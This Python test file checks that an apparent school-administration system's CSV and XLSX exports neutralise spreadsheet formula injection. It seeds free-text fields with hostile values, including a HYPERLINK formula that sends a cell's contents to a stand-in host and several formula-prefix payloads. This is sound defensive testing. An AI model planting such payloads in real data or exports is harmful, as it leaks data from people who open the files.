"""Formula injection (issue 12, High 2): every CSV and XLSX people open neutralises formula-like text.

A school name, actor or reason such as ``=HYPERLINK("http://x/?leak="&A2,"…")`` became 15 live
formula cells in /audit.xlsx, and a region name one in the bulletin workbook; ``audit export`` and
/audit.csv wrote ``=``, ``+``, ``-``, ``@``, tab- and CR-leading cells unchanged. Each writer is
driven here the way an office uses it, with hostile text in every free-text column.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import update

from cli.main import main
from engine.db import sessions, transaction
from engine.models import Region, School
from engine.runs import Actor, fire
from notifications import bulletin_workbook
from tests.engine.builders import COUNTY, EARLY
from tests.web.conftest import Site, csrf_of

LEAK = '=HYPERLINK("http://x/?leak="&A2,"点此查看")'
HOSTILE = [LEAK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1"]
SCHOOL = EARLY[0]


def _poison(site: Site) -> None:
    """A hostile school name, actor and reasons in the trail, as an import and officers would leave them."""
    with transaction(sessions(site.engine)) as s:
        s.execute(update(School).where(School.code == SCHOOL).values(name=LEAK))
        for text in HOSTILE:
            fire(s, site.clock, school_code=SCHOOL, trigger="suspend", actor=Actor(LEAK, "county_office"), reason=text)
            fire(s, site.clock, school_code=SCHOOL, trigger="resume", actor=Actor("@cmd", "county_office"), reason=text)


def _formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


def _check_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [c for row in rows for c in row]
    assert any(c == "'" + LEAK for c in cells)  # the hostile text is there, as text
    assert not [c for c in cells if _formula_like(c)]


def _check_xlsx(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))  # not read-only: data_type tells a formula from text
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert any(c.value == "'" + LEAK for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f" or _formula_like(c.value)]


@pytest.mark.parametrize("path", ["/audit.csv", "/api/audit.csv"])
def test_web_audit_csv(site: Site, path: str) -> None:
    _poison(site)
    r = site.as_user("sup").get(path)
    assert r.status_code == 200
    _check_csv(r.text)


@pytest.mark.parametrize("path", ["/audit.xlsx", "/api/audit.xlsx"])
def test_web_audit_xlsx(site: Site, path: str) -> None:
    _poison(site)
    r = site.as_user("sup").get(path)
    assert r.status_code == 200
    _check_xlsx(r.content)


def test_cli_audit_export(site: Site, tmp_path: Path) -> None:
    _poison(site)
    url = site.engine.url.render_as_string(hide_password=False)
    out = tmp_path / "审计记录.csv"
    result = CliRunner().invoke(main, ["--db", url, "audit", "export", "--output", str(out)])
    assert result.exit_code == 0, result.output
    _check_csv(out.read_text(encoding="utf-8"))
    stdout = CliRunner().invoke(main, ["--db", url, "audit", "export", "--school", SCHOOL])
    _check_csv(stdout.output)


def test_web_action_with_hostile_reason_exports_as_text(site: Site) -> None:
    county = site.as_user("county")
    page = county.get(f"/schools/{SCHOOL}")
    county.post(f"/schools/{SCHOOL}/actions/suspend", data={"csrf": csrf_of(page.text), "reason": LEAK})
    with transaction(sessions(site.engine)) as s:
        s.execute(update(School).where(School.code == SCHOOL).values(name=LEAK))
    _check_xlsx(site.as_user("sup").get("/audit.xlsx").content)


def test_bulletin_workbook_with_hostile_region_and_office_names(site: Site) -> None:
    with transaction(sessions(site.engine)) as s:
        s.execute(update(Region).where(Region.code == COUNTY).values(name=LEAK))
    context = {"office": {"name": "@office", "level": "city"}, "period": "+2022年8月", "plan_title": "-提升工程2.0",
               "rows": [{"rank": 1, "region_code": COUNTY, "region_name": LEAK, "schools": 3, "done": 1,
                         "done_share": 1 / 3, "overdue": 0, "overdue_share": 0.0, "stage_counts": {"=阶段": 2}}]}
    data = bulletin_workbook(context)
    _check_xlsx(data)
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert sheet["F3"].value == pytest.approx(1 / 3) and sheet["F3"].number_format == "0.0%"  # numbers stay numbers
